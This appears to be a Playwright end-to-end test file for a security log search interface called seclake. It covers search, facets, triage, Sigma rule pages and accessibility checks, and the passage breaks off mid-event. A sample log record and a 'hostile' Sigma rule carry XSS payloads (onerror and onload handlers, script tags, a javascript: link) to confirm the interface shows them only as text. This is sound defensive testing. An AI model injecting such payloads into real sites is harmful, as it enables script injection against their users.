// End-to-end tests of the seclake web interface in headless Chromium, driven
// by playwright-core (the Debian `chromium` package; no browser download).
//
//   node tests/web/e2e.mjs <base-url> <admin-password> <artifact-dir>
//
// The server must hold demo data. Steps report as harness.mjs says; the
// last line is "e2e: N passed, N failed". Screenshots go to <artifact-dir>.

import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { check, scenario } from './harness.mjs';

const outside = []; // requests to any other host: there must be none
const { base, password, artifacts, origin, browser, page, pageErrors, step, finish } = await scenario('e2e', {
  prepare: async (context, origin) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
    context.on('request', (request) => {
      const url = request.url();
      if (!url.startsWith('data:') && !url.startsWith('blob:') && new URL(url).origin !== origin) outside.push(url);
    });
  },
});

// axe: false for a state whose markup another shot's check already covers
// (the same page at another range, width or filter).
async function shot(name, { axe = true } = {}) {
  await page.screenshot({ path: join(artifacts, `${name}.png`) });
  if (axe) await accessibility(name);
}

// axe-core (tests/web/package.json) on every page shot, with the data
// loaded: WCAG 2.0/2.1 A and AA, axe's best practices (landmarks, heading
// order, empty table headers) and label-content-name-mismatch (WCAG 2.5.3,
// experimental in axe). The page's CSP (script-src 'self') refuses an
// injected <script> (page.addScriptTag), so axe's source is evaluated
// through the DevTools protocol instead. Violations are gathered per shot
// and the step "axe-core: 0 violations" lists each (id, target, help).
const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const AXE_OPTIONS = {
  runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] },
  rules: { 'label-content-name-mismatch': { enabled: true } },
  // Only violations are read: axe then keeps one node of each passed rule
  // rather than every one (its documented speed-up).
  resultTypes: ['violations'],
};
const axeFound = [];
const axeChecked = [];
const axeMillis = [];
// E2E_AXE=0: the markup is the same whatever status errors come with, so
// tests/web/test_browser.py checks it in one of its two error modes only.
const AXE_ON = process.env.E2E_AXE !== '0';
async function accessibility(name) {
  if (!AXE_ON) return;
  const started = Date.now();
  // A page whose hits came back may still be counting its fields: the
  // sidebar is dimmed (.stale, aria-busy) until then, and fades back in over
  // 0.15 s. axe judges the page at rest, so it waits for both (a spinner's
  // endless animation is not a transition).
  await page.waitForFunction(() => !document.querySelector('[aria-busy="true"]')
    && document.getAnimations().every((a) => !(a instanceof CSSTransition) || a.playState !== 'running'));
  if (!(await page.evaluate(() => typeof window.axe === 'object'))) await page.evaluate(AXE);
  const result = await page.evaluate((options) => window.axe.run(document, options), AXE_OPTIONS);
  axeChecked.push(name);
  axeMillis.push([Date.now() - started, name]);
  for (const v of result.violations) {
    for (const node of v.nodes) axeFound.push(`${name} (${new URL(page.url()).pathname}): ${v.id} at ${node.target.join(' ')}: ${v.help}`);
  }
}

async function api(name, kargs, token) {
  const headers = { 'Content-Type': 'application/json' };
  if (token) headers.Servicetoken = token;
  const r = await fetch(`${origin}/api/${name}`, { method: 'POST', headers, body: JSON.stringify({ kargs }) });
  const body = await r.json();
  if (body.verdict !== 'OK') throw new Error(`${name}: ${r.status} ${JSON.stringify(body)}`);
  return body.response;
}

const param = (name) => new URL(page.url()).searchParams.get(name);
const params = (name) => new URL(page.url()).searchParams.getAll(name);
const hitCount = async () => Number((await page.locator('.result-status .total').innerText()).replace(/,/g, ''));
async function searched() {
  // The hits of the current URL are drawn (no stale marker, status filled).
  await page.waitForSelector('.results:not(.stale):not([aria-busy]) table.hits, .results:not([aria-busy]) .empty-results, .query-error:not([hidden])');
  await page.waitForSelector('.facets:not(.stale) .facet, .facets:not(.stale) .notice, .query-error:not([hidden])');
}

const admin = await api('auth/login', { username: 'admin', password });
const adminToken = admin.sessionToken;
// MITRE ATT&CK technique names as the server ships them (seclake/web/attack-techniques.json).
const attackNames = (await (await fetch(`${origin}/assets/attack-techniques.json`)).json()).techniques;

// Hostile log content: it must show as text, never run or become markup.
const hostile = {
  '@timestamp': Date.now() - 60_000, '@type': 'event', '@sender': '<b id="pwned-sender">evil-sender</b>',
  '@source': 'e2e', '@message': 'hostilemarker <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> "quoted" & done',
  '@fields': { action: '<svg onload="window.__pwned=3">', note: '</td><td>broken' },
};
{
  const r = await fetch(`${origin}/api/import/e2e?type=event&format=jsonl`, {
    method: 'POST', headers: { Servicetoken: adminToken }, body: JSON.stringify(hostile),
  });
  if (!r.ok) throw new Error(`import failed: ${r.status} ${await r.text()}`);
}

await step('first paint under 1 s, and the sign-in page', async () => {
  const started = Date.now();
  await page.goto(`${base}/`);
  await page.waitForSelector('#username');
  const fcp = await page.evaluate(() => {
    const e = performance.getEntriesByType('paint').find((p) => p.name === 'first-contentful-paint');
    return e ? e.startTime : null;
  });
  check(fcp !== null && fcp < 1000, `first contentful paint ${fcp} ms`);
  check(Date.now() - started < 3000, 'sign-in page took over 3 s');
  check(new URL(page.url()).pathname === '/login', `at ${page.url()}`);
  await shot('01-login');
});

await step('a wrong password is refused with a message', async () => {
  await page.fill('#username', 'admin');
  await page.fill('#password', 'not-the-password');
  await page.press('#password', 'Enter');
  await page.waitForSelector('.login-problem .notice.error');
  check(/Sign-in failed/.test(await page.locator('.login-problem').innerText()), 'no sign-in failure message');
});

await step('sign in', async () => {
  await page.fill('#username', 'admin');
  await page.fill('#password', password);
  await page.click('#sign-in');
  await page.waitForURL(/\/search/);
  await searched();
  check(await page.locator('table.hits tbody tr.hit').count() > 0, 'no hits in the last 24 hours');
  const stored = await page.evaluate(() => JSON.parse(sessionStorage.getItem('seclake.session')).userName);
  check(stored === 'admin', 'session not kept in sessionStorage');
  check(await page.locator('.histogram rect.bar').count() > 0, 'no histogram');
  check(await page.locator('.facet[data-field="@sender"] .facet-in').count() > 0, 'no @sender facet');
  await shot('02-search');
});

await step('run a query: Enter searches, terms are highlighted, the URL holds it', async () => {
  await page.fill('#query', 'failed');
  await page.press('#query', 'Enter');
  await page.waitForURL(/q=failed/);
  await searched();
  const marks = await page.locator('table.hits td.cell-message mark').allInnerTexts();
  check(marks.length > 0 && marks.every((m) => m.toLowerCase() === 'failed'), `marks ${marks.slice(0, 3)}`);
  await shot('03-query');
});

await step('a syntax error is shown at its position', async () => {
  await page.fill('#query', 'action:(deny OR ');
  await page.press('#query', 'Enter');
  await page.waitForSelector('.query-error:not([hidden]) .query-caret');
  const text = await page.locator('.query-error').innerText();
  check(/at position 16/.test(text), text);
  check((await page.locator('.query-caret .caret-line').innerText()) === `${' '.repeat(16)}^`, 'caret not under position 16');
  check(await page.locator('#query').getAttribute('aria-invalid') === 'true', 'query not marked invalid');
  await shot('04-query-error');
});

await step('"/" focuses the query bar', async () => {
  await page.goBack(); // back to the valid query
  await page.waitForURL(/q=failed/);
  await searched();
  await page.locator('.result-status').click();
  await page.keyboard.press('/');
  check(await page.evaluate(() => document.activeElement && document.activeElement.id) === 'query', 'query bar not focused');
  check((await page.inputValue('#query')) === 'failed', 'back did not restore the query');
});

await step('click a facet value to filter in, another to filter out', async () => {
  const before = await hitCount();
  const first = page.locator('.facet[data-field="@sender"] .facet-in').first();
  const value = await first.locator('.facet-key').innerText();
  await first.click();
  await page.waitForURL((u) => u.searchParams.getAll('f').includes(`+@sender:${value}`));
  await searched();
  check(await page.locator('.chip:not(.not) .chip-value').first().innerText() === value, 'no chip for the filter');
  const filtered = await hitCount();
  check(filtered > 0 && filtered <= before, `hits ${before} -> ${filtered}`);
  const out = page.locator('.facet[data-field="@source"] .facet-out').first();
  await out.click();
  await page.waitForURL((u) => u.searchParams.getAll('f').some((f) => f.startsWith('-@source:')));
  await searched();
  check(await page.locator('.chip.not').count() === 1, 'no NOT chip');
  await shot('05-facets');
  await page.locator('.chip.not .chip-remove').click();
  await page.waitForURL((u) => !u.searchParams.getAll('f').some((f) => f.startsWith('-')));
  await searched();
});

await step('drag across the histogram to zoom in', async () => {
  await page.fill('#query', '');
  await page.press('#query', 'Enter');
  await page.waitForURL((u) => !u.searchParams.get('q'));
  await searched();
  check(param('from') === 'now-24h', `from ${param('from')}`);
  const box = await page.locator('.histogram .overlay').boundingBox();
  await page.mouse.move(box.x + box.width * 0.3, box.y + box.height / 2);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width * 0.5, box.y + box.height / 2, { steps: 5 });
  await page.mouse.move(box.x + box.width * 0.6, box.y + box.height / 2, { steps: 5 });
  await page.mouse.up();
  await page.waitForURL((u) => /^\d+$/.test(u.searchParams.get('from') || ''));
  await searched();
  const span = Number(param('to')) - Number(param('from'));
  check(span > 5 * 3600e3 && span < 9 * 3600e3, `zoomed span ${span / 3600e3} h (expected about 7.2 h)`);
  check(/→/.test(await page.locator('#time-button').innerText()), 'time button does not show the absolute range');
  await shot('06-zoomed', { axe: false });
});

await step('open a record: the full record with its fields', async () => {
  await page.locator('table.hits tr.hit').first().locator('button.expand').click();
  const detail = page.locator('table.hits tr.detail:not([hidden])').first();
  await detail.waitFor();
  const fields = await detail.locator('.fields th').allInnerTexts();
  check(fields.includes('@timestamp') && fields.includes('@sender'), `fields ${fields.slice(0, 5)}`);
  check(await page.locator('table.hits button.expand[aria-expanded="true"]').count() === 1, 'aria-expanded not set');
  await shot('07-record');
});

await step('highlights: only what the query matched; JSON events read as a message', async () => {
  // A field's term marks that field's value in the record, never a word of the message
  // ("authentication" inside AuthenticationPackageName was marked before: issue 42).
  await page.goto(`${base}/search?q=${encodeURIComponent('event.category:authentication AND @source:windows')}&from=now-24h&to=now`);
  await searched();
  check(await hitCount() > 0, 'no Windows logons in the demo');
  const messages = await page.locator('table.hits td.cell-message').allInnerTexts();
  check(messages.every((m) => /^46\d\d [A-Z]/.test(m)), `raw JSON shown as the message: ${messages.slice(0, 2)}`);
  check(await page.locator('table.hits td.cell-message mark').count() === 0, 'a field term marked in the message');
  const row = page.locator('table.hits tr.hit').first();
  await row.locator('button.expand').click();
  const detail = page.locator('table.hits tr.detail:not([hidden])').first();
  await detail.waitFor();
  const marked = await detail.locator('.fields tr:has(mark)').evaluateAll((rows) => rows.map((r) => [r.querySelector('th').textContent, r.querySelector('mark').textContent]));
  check(marked.length === 2 && marked.some(([p, m]) => p === '@fields.event.category' && m === 'authentication')
    && marked.some(([p, m]) => p === '@source' && m === 'windows'), `marked ${JSON.stringify(marked)}`);
  check((await detail.locator('.fields tr', { hasText: 'AuthenticationPackageName' }).locator('mark').count()) === 0,
    'AuthenticationPackageName marked');
  await shot('07b-highlights');
  // A word of no field marks whole words, in the message and the record alike.
  await page.fill('#query', 'account');
  await page.press('#query', 'Enter');
  await page.waitForURL(/q=account/);
  await searched();
  const pieces = await page.locator('table.hits td.cell-message mark').evaluateAll((marks) => marks.map((m) => [
    (m.previousSibling && m.previousSibling.textContent.slice(-1)) || '', m.textContent,
    (m.nextSibling && m.nextSibling.textContent.slice(0, 1)) || ''])); 
  check(pieces.length > 0, 'no word marked');
  check(pieces.every(([before, word, after]) => word.toLowerCase() === 'account' && !/[\p{L}\p{N}]/u.test(before + after)),
    `marks inside words: ${JSON.stringify(pieces.slice(0, 3))}`);
});

await step("README's example: failed logins of sshd, Windows and Okta side by side, no blocked traffic", async () => {
  // A connection a firewall blocked is no failure (ECS): event.outcome:failure is failed logins only (issue 42).
  await page.goto(`${base}/search?q=${encodeURIComponent('event.outcome:failure')}&from=now-7d&to=now`);
  await searched();
  const sources = await page.locator('.facet[data-field="@source"] .facet-key').allInnerTexts();
  check(['sshd', 'windows', 'okta'].every((s) => sources.includes(s)) && !sources.includes('fortigate'),
    `sources of event.outcome:failure: ${sources}`);
});

await step('time range presets and the absolute range', async () => {
  await page.click('#time-button');
  await page.waitForSelector('.time-panel:not([hidden])');
  await shot('08-time-picker');
  await page.keyboard.press('Escape');
  check(await page.locator('.time-panel').isHidden(), 'Escape did not close the time panel');
  check(await page.evaluate(() => document.activeElement.id) === 'time-button', 'focus did not return');
  await page.click('#time-button');
  await page.click('.preset[data-preset="7d"]');
  await page.waitForURL((u) => u.searchParams.get('from') === 'now-7d');
  await searched();
  await page.click('#time-button');
  await page.fill('#abs-from', '2020-01-01T00:00');
  await page.fill('#abs-to', '2020-01-02T00:00');
  await page.click('.time-panel .absolute button[type=submit]');
  await page.waitForURL((u) => u.searchParams.get('from') === String(Date.UTC(2020, 0, 1)));
  await searched();
  check(await page.locator('.empty-results').count() === 1, 'expected no hits in 2020');
});

await step('hostile log content is shown as text', async () => {
  await page.goto(`${base}/search?q=hostilemarker&from=now-24h&to=now`);
  await searched();
  check(await hitCount() >= 1, 'the hostile record was not found');
  await page.locator('table.hits tr.hit').first().locator('button.expand').click();
  await page.waitForSelector('table.hits tr.detail:not([hidden])');
  check(await page.evaluate(() => window.__pwned) === undefined, 'hostile script ran');
  check(await page.locator('#pwned-sender').count() === 0, 'hostile markup became an element');
  check(await page.locator('.results img, .results script, .results svg, .facets img').count() === 0, 'hostile elements in the page');
  const sender = await page.locator('table.hits td.cell-sender').first().innerText();
  check(sender === '<b id="pwned-sender">evil-sender</b>', `sender shown as ${sender}`);
  const message = await page.locator('table.hits td.cell-message').first().innerText();
  check(message.includes('<script>window.__pwned=2</script>'), 'message not shown literally');
  await shot('09-hostile');
});

await step('back and forward move through searches', async () => {
  await page.goto(`${base}/search?q=deny&from=now-7d&to=now`);
  await searched();
  await page.fill('#query', 'accept');
  await page.press('#query', 'Enter');
  await page.waitForURL(/q=accept/);
  await searched();
  await page.goBack();
  await page.waitForURL(/q=deny/);
  await searched();
  check((await page.inputValue('#query')) === 'deny', 'back did not restore the query bar');
  await page.goForward();
  await page.waitForURL(/q=accept/);
  await searched();
  check((await page.inputValue('#query')) === 'accept', 'forward did not restore the query bar');
});

await step('switch to flows', async () => {
  await page.goto(`${base}/search?from=now-24h&to=now`);
  await searched();
  await page.click('.segment[data-type="flow"]');
  await page.waitForURL(/type=flow/);
  await searched();
  const heads = (await page.locator('table.hits thead th').allInnerTexts()).map((t) => t.toLowerCase());
  check(['source', 'destination', 'protocol', 'bytes', 'packets'].every((c) => heads.includes(c)), `flow columns ${heads}`);
  check(await page.locator('.facet[data-field="@fields.dip"]').count() === 1, 'no flow facets');
  check(await page.locator('table.hits tr.hit').count() > 0, 'no flows');
  await shot('10-flows');
});

await step('laptop size 1440x900', async () => {
  await page.setViewportSize({ width: 1440, height: 900 });
  await page.goto(`${base}/search?q=failed&from=now-7d&to=now`);
  await searched();
  await shot('11-search-1440x900', { axe: false });
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth > window.innerWidth);
  check(!overflow, 'the page scrolls sideways at 1440x900');
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.reload();
  await searched();
  check(!(await page.evaluate(() => document.documentElement.scrollWidth > window.innerWidth)), 'the page scrolls sideways at 1280x800');
});

await step('timeline: behaviors with facets', async () => {
  await page.click('.main-nav a[href="/timeline"]');
  await page.waitForURL(/\/timeline/);
  await searched();
  check(await page.locator('table.hits tr.hit').count() > 0, 'no behaviors in 7 days');
  check(await page.locator('.facet[data-field="behavior"] .facet-in').count() > 0, 'no behavior facet');
  for (const f of ['behaviorRule', 'keyType', 'risks', 'scoreLevel']) {
    check(await page.locator(`.facet[data-field="${f}"]`).count() === 1, `no ${f} facet`);
  }
  await page.locator('.facet[data-field="behavior"] .facet-in').first().click();
  await page.waitForURL((u) => u.searchParams.getAll('f').some((f) => f.startsWith('+behavior:')));
  await searched();
  await page.locator('table.hits tr.hit').first().locator('button.expand').click();
  await page.waitForSelector('tr.detail:not([hidden]) .record');
  await shot('12-timeline');
});

await step('timeline: a field term marks that field only (the reply says what matched)', async () => {
  await page.goto(`${base}/timeline?${new URLSearchParams({ q: 'key:"203.0.113.7"' })}`);
  await searched();
  const marks = page.locator('table.hits tr.hit mark');
  check(await marks.count() > 0, 'the key is not marked');
  const places = await marks.evaluateAll((ms) => ms.map((m) => [m.closest('td').className, m.textContent]));
  check(places.every(([cls, text]) => cls.includes('cell-key') && text === '203.0.113.7'),
    `marks outside the key: ${JSON.stringify(places.slice(0, 5))}`);
});

let summaryKey = null;
await step('summaries: riskiest first, level colours, facets', async () => {
  await page.click('.main-nav a[href="/summaries"]');
  await page.waitForURL(/\/summaries/);
  await searched();
  const rows = page.locator('table.summaries tbody tr');
  check(await rows.count() > 0, 'no summaries');
  const scores = (await page.locator('table.summaries tbody tr td.num:nth-child(2)').allInnerTexts())
    .map((t) => Number(t.split(' ')[0].replace(/,/g, '')));
  check(scores.every((s, i) => i === 0 || scores[i - 1] >= s), `not sorted by risk: ${scores}`);
  for (const f of ['status', 'scoreLevel', 'keyType', 'behaviorRules']) {
    check(await page.locator(`.facet[data-field="${f}"]`).count() === 1, `no ${f} facet`);
  }
  const colour = await page.locator('table.summaries .level').first().evaluate((el) => getComputedStyle(el).backgroundColor);
  check(colour !== 'rgba(0, 0, 0, 0)', 'levels are not coloured');
  await shot('13-summaries');
});

await step('triage a summary: behaviors, acknowledge, comment, incident, score', async () => {
  const open = page.locator('table.summaries button.open-summary').first();
  summaryKey = await open.innerText();
  await open.click();
  await page.waitForURL(/open=/);
  await page.waitForSelector('.drawer .summary-behaviors table.hits');
  check(await page.locator('.drawer .summary-behaviors tr.hit').count() > 0, 'the summary shows no behaviors');
  const status = await page.locator('.drawer .facts .status').innerText();
  if (status !== 'new') {
    await page.click('.drawer #reopen');
    await page.waitForSelector('.drawer .triage-message .notice.ok');
  }
  await page.click('.drawer #ack');
  await page.waitForFunction(() => document.querySelector('.drawer .facts .status')?.textContent === 'acknowledged');
  await page.fill('#triage-comment', 'Checked by the e2e test <b>not bold</b>');
  await page.click('#add-comment');
  await page.waitForSelector('.drawer .comment-text >> text=Checked by the e2e test <b>not bold</b>');
  if (await page.locator('.drawer .facts .incident-flag').count()) { // marked by an earlier run
    await page.click('.drawer #incident');
    await page.waitForSelector('.drawer .facts .incident-flag', { state: 'detached' });
  }
  await page.click('.drawer #incident');
  await page.waitForSelector('.drawer .facts .incident-flag');
  const adjust = Number(await page.inputValue('#score-adjust')) + 100;
  await page.fill('#score-adjust', String(adjust));
  await page.click('#apply-adjust');
  await page.waitForSelector(`.drawer .triage-message >> text=Score adjustment set to ${adjust}.`);
  // The list shows the change too.
  await page.waitForSelector('table.summaries tr.selected .status-acknowledged');
  await shot('14-summary-triage');
  await page.click('.drawer #resolve');
  await page.waitForFunction(() => document.querySelector('.drawer .facts .status')?.textContent === 'resolved');
  await page.keyboard.press('Escape');
  await page.waitForURL((u) => !u.searchParams.get('open'));
  check(await page.locator('.drawer').count() === 0, 'Escape did not close the summary');
  await page.waitForFunction(() => document.activeElement && document.activeElement.classList.contains('open-summary'));
});

await step('a shared summary URL opens the summary', async () => {
  await page.goBack();
  await page.waitForURL(/open=/);
  await page.waitForSelector('.drawer .facts');
  check((await page.locator('.drawer-key').innerText()) === summaryKey, 'wrong summary opened');
});

// ---- rules page, Sigma rules and ATT&CK (issue 41) ----------------------------------

// SigmaHQ's rules are read in place from ../shared/sigma (DRL 1.1), never copied into the repository.
const SIGMA_ARCHIVE = join(dirname(fileURLToPath(import.meta.url)), '..', '..', '..', 'shared', 'sigma', 'sigmahq-8eaafff.tar.gz');
const SIGMA_RULES = [
  'proc_creation_win_certutil_download.yml', // medium, test: fires on the Sysmon event below
  'proc_creation_win_bcdedit_boot_conf_tamper.yml', // high, stable
  'proc_creation_win_cmd_sticky_key_like_backdoor_execution.yml', // critical, test
  'proc_creation_win_clip_execution.yml', // low, test
].map((name) => `rules/windows/process_creation/${name}`);

/** A Sigma rule's own words: what the page must show (single-line values and lists, as SigmaHQ writes them). */
function sigmaFacts(text) {
  const one = (key) => (text.match(new RegExp(`^${key}: (.*)$`, 'm')) || [])[1];
  const many = (key) => {
    const block = text.match(new RegExp(`^${key}:\\n((?: {4}- .*\\n)+)`, 'm'));
    return block ? block[1].trimEnd().split('\n').map((l) => l.replace(/^ {4}- /, '').replace(/^'(.*)'$/, '$1')) : [];
  };
  const tags = many('tags');
  return {
    text, id: one('id'), title: one('title'), description: one('description'), level: one('level'), status: one('status'),
    references: many('references'), falsePositives: many('falsepositives'), author: one('author'),
    techniques: tags.filter((t) => /^attack\.t\d{4}/.test(t)).map((t) => t.slice('attack.'.length).toUpperCase()),
  };
}

let sigma = null; // the rules added, or null when ../shared/sigma is absent
const sigmaSkip = () => {
  if (sigma) return false;
  console.log(`  # skipped: SigmaHQ's archive is not at ${SIGMA_ARCHIVE} (shared/ beside the project)`);
  return true;
};
const ruleRow = (id) => page.locator(`table.rules tr.hit[data-id="${id}"]`);
async function rulesShown() {
  await page.waitForSelector('.page-rules .results:not(.stale):not([aria-busy]) table.rules, .page-rules .results:not([aria-busy]) .empty-results');
}
async function dao(kargs) {
  return api('ds/eventwatch_bucket_dao', kargs, adminToken);
}
const enabledOf = async () => Object.fromEntries((await dao({ action: 'list' })).buckets.map((b) => [b.name, b.enabled]));

// Our own rule with markup in every text it shows: it must stay text.
const HOSTILE_ID = 'c0ffee00-0bad-4bad-8bad-0000e2e0e2e0';
const HOSTILE = `title: <img src=x onerror="window.__pwned=7"> hostile rule
id: ${HOSTILE_ID}
status: experimental
description: <script>window.__pwned=8</script> described & "quoted"
references:
    - javascript:window.__pwned=9
    - https://example.org/?q=<b>bold</b>
author: <b id="pwned-author">evil</b>
tags:
    - attack.t1059.001
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\\\\hostile-e2e.exe'
    condition: selection
falsepositives:
    - <svg onload="window.__pwned=10">
level: informational
`;

await step('rules: Sigma rules added through the API are listed with level, status and ATT&CK techniques', async () => {
  await dao({ action: 'add', sigma: HOSTILE });
  if (existsSync(SIGMA_ARCHIVE)) {
    const texts = SIGMA_RULES.map((path) => execFileSync('tar', ['-xzOf', SIGMA_ARCHIVE, `sigmahq-8eaafff/${path}`], { encoding: 'utf8' }));
    sigma = texts.map(sigmaFacts);
    for (const rule of sigma) await dao({ action: 'add', sigma: rule.text });
  }
  await page.click('.main-nav a[href="/rules"]');
  await page.waitForURL(/\/rules/);
  await rulesShown();
  check(await page.locator('.main-nav a[href="/rules"][aria-current="page"]').count() === 1, 'Rules not marked as the current page');
  await page.click('.segment[data-source="sigma"]');
  await page.waitForURL((u) => u.searchParams.get('source') === 'sigma');
  await rulesShown();
  const ids = await page.locator('table.rules tr.hit').evaluateAll((rows) => rows.map((r) => r.dataset.id));
  const expected = [HOSTILE_ID, ...(sigma || []).map((r) => r.id)];
  check(ids.length === expected.length && expected.every((id) => ids.includes(id)), `Sigma rules listed: ${ids}`);
  check(await hitCount() === expected.length, `total ${await hitCount()}`);
  for (const rule of sigma || []) {
    const row = ruleRow(rule.id);
    check((await row.locator('.cell-rule-title strong').textContent()) === rule.title, `title of ${rule.id}`);
    const level = await row.locator('.rule-level').textContent();
    check(level.startsWith(rule.level), `level of ${rule.id}: ${level}, not ${rule.level}`);
    check((await row.locator('.rule-status').textContent()) === rule.status, `status of ${rule.id}`);
    const techniques = await row.locator('a.technique .technique-id').allTextContents();
    check(JSON.stringify(techniques) === JSON.stringify(rule.techniques), `techniques of ${rule.id}: ${techniques}, not ${rule.techniques}`);
    check((await row.locator('.rule-source').textContent()) === 'Sigma', `source of ${rule.id}`);
  }
  // Riskiest first: critical before high before medium before low.
  const scores = await page.locator('table.rules .rule-level .level-score').allTextContents();
  check(scores.map(Number).every((s, i, a) => i === 0 || a[i - 1] >= s), `not riskiest first: ${scores}`);
  await shot('32-rules');
});

await step('rules: filter by level, status and source', async () => {
  if (sigmaSkip()) return;
  const byLevel = async (level) => {
    await page.locator(`.facet[data-field="level"] .facet-in:has(.facet-key:text-is("${level}"))`).click();
    await page.waitForURL((u) => u.searchParams.getAll('f').includes(`+level:${level}`));
    await rulesShown();
  };
  await byLevel('critical');
  const critical = sigma.filter((r) => r.level === 'critical').map((r) => r.id);
  let ids = await page.locator('table.rules tr.hit').evaluateAll((rows) => rows.map((r) => r.dataset.id));
  check(JSON.stringify(ids) === JSON.stringify(critical), `critical: ${ids}`);
  await page.locator('.chip .chip-remove').click();
  await page.waitForURL((u) => !u.searchParams.getAll('f').length);
  await rulesShown();
  await page.locator('.facet[data-field="status"] .facet-in:has(.facet-key:text-is("stable"))').click();
  await page.waitForURL((u) => u.searchParams.getAll('f').includes('+status:stable'));
  await rulesShown();
  ids = await page.locator('table.rules tr.hit').evaluateAll((rows) => rows.map((r) => r.dataset.id));
  const stable = sigma.filter((r) => r.status === 'stable').map((r) => r.id);
  check(JSON.stringify(ids) === JSON.stringify(stable), `stable: ${ids}`);
  await shot('33-rules-filtered', { axe: false });
  // seclake's own rules: the starter pack, none of them Sigma.
  await page.locator('.chip .chip-remove').click();
  await page.waitForURL((u) => !u.searchParams.getAll('f').length);
  await page.click('.segment[data-source="seclake"]');
  await page.waitForURL((u) => u.searchParams.get('source') === 'seclake');
  await rulesShown();
  const own = (await dao({ action: 'list' })).buckets.filter((b) => !b.sigmaId).length;
  check(own > 0 && await hitCount() === own, `seclake rules shown ${await hitCount()}, the API has ${own}`);
  const sources = await page.locator('table.rules .rule-source').allTextContents();
  check(sources.every((s) => s === 'seclake'), `sources ${sources}`);
  // A query within a source keeps its errors' positions in what the user wrote.
  await page.fill('#query', 'level:(high OR ');
  await page.press('#query', 'Enter');
  await page.waitForSelector('.query-error:not([hidden]) .query-caret');
  check(/at position 15/.test(await page.locator('.query-error').innerText()), await page.locator('.query-error').innerText());
});

await step('rules: disable the selected ones, then all matching, then enable all matching', async () => {
  if (sigmaSkip()) return;
  await page.goto(`${base}/rules?source=sigma`);
  await rulesShown();
  const [first, second] = sigma.map((r) => r.id);
  await ruleRow(first).locator('input.select-rule').check();
  await ruleRow(second).locator('input.select-rule').check();
  check((await page.locator('#selected-count').textContent()) === '2 selected', 'selection not counted');
  await page.click('#disable-selected');
  await page.waitForSelector('.rules-message .notice.ok');
  await rulesShown();
  await page.waitForSelector(`table.rules tr.hit.disabled[data-id="${first}"]`);
  let state = await enabledOf();
  check(state[first] === false && state[second] === false, 'the selected rules are still enabled');
  check(sigma.slice(2).every((r) => state[r.id] === true) && state[HOSTILE_ID] === true, 'other rules were disabled');
  await shot('34-rules-disabled');
  // Every Sigma rule: the 3 still enabled change, the 2 disabled stay.
  await page.click('#disable-matching');
  await page.waitForSelector('dialog[open]');
  check(/5 rules/.test(await page.locator('dialog[open]').innerText()), 'the dialog does not say how many');
  await page.click('dialog[open] button[value=ok]');
  await page.waitForSelector('.rules-message .notice.ok >> text=3 rules disabled.');
  state = await enabledOf();
  const sigmaIds = [HOSTILE_ID, ...sigma.map((r) => r.id)];
  check(sigmaIds.every((id) => state[id] === false), 'not every Sigma rule was disabled');
  check(Object.entries(state).filter(([id]) => !sigmaIds.includes(id)).every(([, on]) => on), 'a seclake rule was disabled');
  await rulesShown();
  check(await page.locator('table.rules tr.hit:not(.disabled)').count() === 0, 'a row is not shown disabled');
  await page.click('#enable-matching');
  await page.click('dialog[open] button[value=ok]');
  await page.waitForSelector('.rules-message .notice.ok >> text=5 rules enabled.');
  state = await enabledOf();
  check(Object.values(state).every((on) => on), 'a rule is still disabled');
});

await step('rules: open one: description, author, references, false positives, its Sigma text', async () => {
  if (sigmaSkip()) return;
  const rule = sigma[0];
  await page.goto(`${base}/rules?source=sigma`);
  await rulesShown();
  await ruleRow(rule.id).locator('button.expand').click();
  const detail = page.locator('tr.detail:not([hidden]) .rule-detail');
  await detail.waitFor();
  check((await detail.locator('.rule-description').textContent()) === rule.description, 'description');
  const refs = await detail.locator('ul.references a').evaluateAll((as) => as.map((a) => [a.textContent, a.getAttribute('href'), a.rel]));
  check(refs.length === rule.references.length && refs.every(([text, href, rel], i) => text === rule.references[i] && href === rule.references[i] && /noopener/.test(rel)),
    `references ${JSON.stringify(refs)}`);
  check(JSON.stringify(await detail.locator('ul.false-positives li').allTextContents()) === JSON.stringify(rule.falsePositives), 'false positives');
  check((await detail.locator('dd').allTextContents()).includes(rule.author), 'author');
  check((await detail.locator('details.rule-text pre').textContent()) === rule.text, 'the Sigma text');
  await shot('35-rule-opened');
});

await step("rules: a hostile rule's texts are shown as text, its odd reference is no link", async () => {
  await page.goto(`${base}/rules?q=${encodeURIComponent(`name:"${HOSTILE_ID}"`)}`);
  await page.waitForSelector('tr.detail:not([hidden]) .rule-detail'); // one rule found: shown opened
  check(await page.evaluate(() => window.__pwned) === undefined, 'hostile script ran');
  check(await page.locator('#pwned-author, .results img, .results script, .results svg').count() === 0, 'hostile markup became elements');
  check((await ruleRow(HOSTILE_ID).locator('.cell-rule-title strong').textContent()).startsWith('<img src=x'), 'title not shown as text');
  const hrefs = await page.locator('.rule-detail ul.references a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
  check(hrefs.length === 1 && hrefs[0].startsWith('https://example.org/'), `links ${hrefs}`);
  check((await page.locator('.rule-detail ul.references').textContent()).includes('javascript:window.__pwned=9'), 'the odd reference is not shown');
  check((await page.locator('.rule-detail .rule-description').textContent()).includes('<script>'), 'description not literal');
});

await step('timeline and summaries: ATT&CK technique ids lead to their behaviors', async () => {
  if (sigmaSkip()) return;
  const rule = sigma[0]; // certutil downloading a file: a Sysmon process start as NXLog sends it
  const when = new Date(Date.now() - 120_000).toISOString();
  const event = {
    EventTime: when.slice(0, 19).replace('T', ' '), Hostname: 'WS-E2E.corp.local', Keywords: '0x8000000000000000', EventType: 'INFO',
    SeverityValue: 2, Severity: 'INFO', EventID: 1, SourceName: 'Microsoft-Windows-Sysmon', ProviderGuid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
